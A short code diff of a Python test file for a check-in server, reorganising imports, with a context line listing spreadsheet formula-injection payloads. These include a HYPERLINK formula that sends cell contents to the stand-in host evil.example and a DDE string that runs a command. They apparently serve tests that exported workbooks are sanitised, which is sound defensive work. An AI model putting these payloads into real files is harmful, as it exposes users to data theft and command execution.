@@ -7,8 +7,14 @@ from openpyxl import load_workbook
 from server.checkins.models import LeaveRequest
 from server.common.timeutil import utcnow
 from server.extensions import db
-from tests.checkins.conftest import make_event
-from tests.factories import bearer, make_branch, make_member, member_token, staff_token
+from tests.factories import (
+    bearer,
+    make_branch,
+    make_event,
+    make_member,
+    member_token,
+    staff_token,
+)
 
 PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)")
 
